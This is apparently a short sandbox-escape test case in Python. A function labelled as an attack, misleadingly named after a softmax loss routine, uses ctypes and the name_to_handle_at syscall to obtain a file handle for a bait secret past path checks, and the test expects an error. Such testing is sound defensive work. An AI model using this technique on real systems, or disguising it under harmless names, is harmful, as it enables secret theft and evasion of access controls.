# goal: open a secret by a file handle, past the checks on paths
# must: error raised | error crashed
# unwalled: claim?

import struct

from tools import BAIT, attack, claim, reach, syscall


@attack
def naive_softmax_loss_and_gradient():
    ctypes = reach("ctypes")
    handle = ctypes.create_string_buffer(struct.pack("<Ii", 128, 0), 136)
    syscall("name_to_handle_at", -100, BAIT["secret"].encode(), handle, ctypes.byref(ctypes.c_int()), 0)
    claim("a handle of the secret")
